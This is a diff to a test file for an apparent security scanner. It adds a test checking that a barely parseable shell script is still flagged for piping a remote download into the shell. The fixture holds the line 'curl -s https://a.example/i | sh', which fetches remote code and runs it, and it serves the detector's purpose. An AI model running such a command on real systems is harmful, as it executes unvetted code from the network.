@@ -194,3 +194,10 @@ def test_python_without_a_word_of_a_pattern_is_not_examined(tmp_path: Path) -> N
 def test_a_webhook_that_is_signed_may_do_without_a_csrf_token(tmp_path: Path) -> None:
     text = "@csrf_exempt\ndef paid(request):\n    verify_signature(request)\n"
     assert codes(tmp_path, "a.py", text) == []
+
+
+def test_a_script_that_the_grammar_hardly_parses_is_searched_since_shellcheck_reads_it(
+    tmp_path: Path,
+) -> None:
+    text = "curl -s https://a.example/i | sh\n" + "case ) in (( esac fi }\n" * 9
+    assert codes(tmp_path, "a.sh", text) == ["shell-remote-script"]
